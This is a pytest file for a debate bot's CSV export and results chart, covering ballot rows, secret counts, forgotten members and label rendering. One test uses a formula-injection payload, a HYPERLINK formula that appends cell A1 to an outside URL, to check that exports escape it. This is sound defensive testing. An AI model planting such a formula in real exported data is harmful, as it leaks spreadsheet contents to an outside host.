"""What leaves the core: the CSV export and the results chart."""

from __future__ import annotations

import csv
import io
from datetime import UTC, datetime

import pytest
from matplotlib.text import Text

from core.debates import DebateRepo, Format, build_spec, export_csv, forget_member, render_results
from core.debates._chart import results_figure
from core.spreadsheet import safe_cell

T0 = datetime(2026, 3, 1, 12, 0, tzinfo=UTC)


async def _debate(store, format, *, secret=False, voters=((5, 0), (6, 1))):
    repo = DebateRepo(store)
    spec = build_spec(motion="Adopt the platform", format=format, secret=secret,
                      options="Yes | No" if format is Format.POLL else None)
    debate = await repo.start(spec, guild_id=1, channel_id=2, author_id=3, now=T0)
    for member, choice in voters:
        await repo.vote(1, debate.id, member_id=member, member_roles=set(), choices=(choice,), now=T0,
                        reason="why not" if format is Format.PROPOSAL else None)
    return repo, debate


def _rows(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode("utf-8"))))


async def test_a_recorded_export_lists_each_ballot_with_member_choice_reason_and_time(store):
    repo, debate = await _debate(store, Format.PROPOSAL)
    rows = _rows(export_csv(debate, await repo.votes(debate), await repo.results(debate)))
    assert rows == [["member_id", "round", "choice", "reason", "voted_at"],
                    ["5", "vote", "Agree", "why not", T0.isoformat()],
                    ["6", "vote", "Abstain", "why not", T0.isoformat()]]


async def test_a_forgotten_member_shows_as_forgotten_in_exports(store):
    repo, debate = await _debate(store, Format.POLL)
    debate = await repo.close(1, debate.id)
    async with store.transaction() as db:
        await forget_member(db, guild_id=1, member_id=5)
    rows = _rows(export_csv(debate, await repo.votes(debate), await repo.results(debate)))
    assert sorted(row[0] for row in rows[1:]) == ["(forgotten)", "6"]


async def test_a_secret_export_has_counts_only(store):
    repo, debate = await _debate(store, Format.POLL, secret=True)
    rows = _rows(export_csv(debate, await repo.votes(debate), await repo.results(debate)))
    assert rows == [["round", "option", "votes"], ["vote", "Yes", "1"], ["vote", "No", "1"]]


@pytest.mark.parametrize("format", [Format.POLL, Format.OXFORD])
async def test_the_chart_is_a_png(store, format):
    repo, debate = await _debate(store, format)
    if format is Format.OXFORD:
        debate = await repo.advance(1, debate.id)
    assert render_results(await repo.results(debate)).startswith(b"\x89PNG\r\n\x1a\n")


@pytest.mark.parametrize("motion", ["Raise dues from $5 to $10 per month?", "Raise $5k (50% of goal) or $10k?"])
async def test_dollar_signs_in_motions_and_options_are_drawn_as_written_not_as_math(store, motion):
    repo = DebateRepo(store)
    spec = build_spec(motion=motion, format=Format.POLL, options="From $5 to $10 | $5k (50%) or $10k | Keep $5")
    debate = await repo.start(spec, guild_id=1, channel_id=2, author_id=3, now=T0)
    results = await repo.results(debate)
    assert render_results(results).startswith(b"\x89PNG")
    texts = [t for t in results_figure(results).findobj(Text) if "$" in t.get_text() and t.get_visible()]
    assert sorted(t.get_text() for t in texts) == sorted([motion, "From $5 to $10", "$5k (50%) or $10k", "Keep $5"])
    assert not any(t.get_parse_math() for t in texts)


async def test_chart_labels_keep_every_option_whole_however_long_its_words(store):
    repo = DebateRepo(store)
    options = ("https://example.org/campaigns/2026/rent-strike-ballot",
               "Back the tenants union and the rent strike in spring",
               "Back the tenants union and the rent strike in autumn", "\u5408" * 55)
    spec = build_spec(motion="\u52b4\u50cd" * 150, format=Format.POLL, options=" | ".join(options))
    debate = await repo.start(spec, guild_id=1, channel_id=2, author_id=3, now=T0)
    figure = results_figure(await repo.results(debate))
    labels = ["".join(t.get_text().split()) for t in figure.axes[0].get_yticklabels()]  # line breaks aside
    assert labels == ["".join(option.split()) for option in options]
    assert figure.get_suptitle().replace("\n", "") == debate.motion


async def test_exported_reasons_and_options_cannot_run_as_spreadsheet_formulas(store):
    repo = DebateRepo(store)
    spec = build_spec(motion="Adopt the platform", format=Format.PROPOSAL)
    debate = await repo.start(spec, guild_id=1, channel_id=2, author_id=3, now=T0)
    formula = '=HYPERLINK("https://example.com/x?d="&A1, "details")'
    await repo.vote(1, debate.id, member_id=5, member_roles=set(), choices=(2,), reason=formula, now=T0)
    await repo.vote(1, debate.id, member_id=6, member_roles=set(), choices=(0,), reason="@SUM(1+1)", now=T0)
    rows = _rows(export_csv(debate, await repo.votes(debate), await repo.results(debate)))
    assert [row[3] for row in rows[1:]] == ["'" + formula, "'@SUM(1+1)"]
    poll = await repo.start(build_spec(motion="Which", format=Format.POLL, options="-1 | +1", secret=True),
                            guild_id=1, channel_id=2, author_id=3, now=T0)
    rows = _rows(export_csv(poll, [], await repo.results(poll)))
    assert [row[1] for row in rows[1:]] == ["'-1", "'+1"]


@pytest.mark.parametrize(("value", "cell"), [
    ("=1+1", "'=1+1"), ("+1", "'+1"), ("-1", "'-1"), ("@A1", "'@A1"), ("\tx", "'\tx"), ("\rx", "'\rx"),
    ("plain", "plain"), ("a=b", "a=b"), ("", ""), (-1, -1), (3, 3)])
def test_spreadsheet_cells_escape_only_formula_starts(value, cell):
    assert safe_cell(value) == cell
